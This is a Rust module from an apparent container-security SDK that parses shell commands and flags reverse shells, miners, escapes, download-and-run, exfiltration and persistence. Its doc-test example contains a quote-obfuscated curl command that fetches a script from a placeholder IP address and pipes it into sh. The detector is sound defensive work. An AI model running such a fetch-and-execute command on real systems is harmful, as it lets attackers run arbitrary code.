//! What commands are for: those of an exec, of a container, of a probe, with the shell
//! scripts inside them.
//!
//! A command line is read as a shell reads it: quotes are taken away, so that `c''url` is
//! `curl`; pipes, lists, substitutions and the scripts of `sh -c` and `eval` are followed;
//! `sudo`, `env`, `timeout` and their like are looked through. Then tables of names, options
//! and paths say what stands out. Nothing is run, and no variable but `$IFS` is resolved: a
//! script that is built at run time is not understood.
//!
//! Time and memory grow with the length of the text, of which [`LONGEST`] bytes are read: of a
//! longer one the beginning and the end. What is more than [`DEEPEST`] scripts deep is not read.
//!
//! ```
//! use wardline_sdk::rules::command::{Commands, Kind};
//!
//! let words = ["sh", "-c", "cu''rl -fsSL http://203.0.113.9/x.sh | sh"];
//! let signs = Commands::of_arguments(words).signs();
//! assert_eq!(signs[0].kind, Kind::DownloadAndRun);
//! assert_eq!(signs[0].text, "curl -fsSL http://203.0.113.9/x.sh | sh");
//! ```

mod copy;
mod download;
mod escape;
mod evasion;
mod files;
mod kind;
mod metadata;
mod miner;
mod parse;
mod persistence;
mod program;
mod reverse_shell;
mod sending;
mod shell;
mod tools;

#[cfg(test)]
mod tests;

pub use files::is_sensitive_file;
pub use kind::Kind;
pub use miner::is_miner_image;
pub use tools::is_offensive_image;

use parse::{Command, Parser};

/// The length of a word or script, in bytes, up to which all of it is read.
pub const LONGEST: usize = 16 * 1024;

/// How many scripts inside each other are read: `sh -c "sh -c '...'"` are two.
pub const DEEPEST: usize = 6;

/// The length of a sign's text, in characters.
const EVIDENCE: usize = 300;

/// Something in a command that stands out.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sign {
    /// What it is good for.
    pub kind: Kind,
    /// The part of the command that says so, without its quotes; at most 300 characters.
    pub text: String,
}

/// A command line, or a script, taken apart.
#[derive(Debug, Clone, Default)]
pub struct Commands {
    commands: Vec<Command>,
}

impl Commands {
    /// The commands of an argument vector: of an exec, or `command` and `args` of a container.
    ///
    /// Where a container names arguments only, the program is that of the image and is not
    /// known; a sole argument that holds blanks, and what follows a leading `-c`, are read as
    /// scripts then.
    #[must_use]
    pub fn of_arguments<'a>(words: impl IntoIterator<Item = &'a str>) -> Self {
        Self {
            commands: Parser::default().arguments(words),
        }
    }

    /// The commands of a shell script.
    #[must_use]
    pub fn of_script(text: &str) -> Self {
        Self {
            commands: Parser::default().script(text),
        }
    }

    /// The commands of an argument vector whose words were joined with blanks, as those of
    /// lifecycle hooks and probes are: what follows `sh -c` is one script.
    #[must_use]
    pub fn of_line(line: &str) -> Self {
        Self::of_script(program::joined_script(line).unwrap_or(line))
    }

    /// What stands out, each once, the most telling kind first.
    #[must_use]
    pub fn signs(&self) -> Vec<Sign> {
        let mut found = Found::default();
        let commands = self.commands.as_slice();
        reverse_shell::find(commands, &mut found);
        miner::find(commands, &mut found);
        escape::find(commands, &mut found);
        download::find(commands, &mut found);
        metadata::find(commands, &mut found);
        files::find(commands, &mut found);
        tools::find(commands, &mut found);
        sending::find(commands, &mut found);
        evasion::find(commands, &mut found);
        persistence::find(commands, &mut found);
        copy::find(commands, &mut found);
        if self.is_shell() {
            found.add(Kind::Shell, self.text());
        }
        found.signs.sort_by_key(|sign| sign.kind);
        found.signs
    }

    /// Whether this only starts a shell, which then takes commands from its input:
    /// `bash`, `sh -i`, `sh -c "clear; (bash || ash || sh)"`.
    #[must_use]
    pub fn is_shell(&self) -> bool {
        self.commands
            .iter()
            .any(|command| command.is_bare_shell() && !command.piped_into)
    }

    fn text(&self) -> String {
        parse::joined(&self.commands, "; ")
    }
}

/// The signs found so far.
#[derive(Debug, Default)]
struct Found {
    signs: Vec<Sign>,
}

impl Found {
    fn add(&mut self, kind: Kind, text: impl AsRef<str>) {
        let text: String = text.as_ref().chars().take(EVIDENCE).collect();
        let sign = Sign { kind, text };
        if !self.signs.contains(&sign) {
            self.signs.push(sign);
        }
    }
}
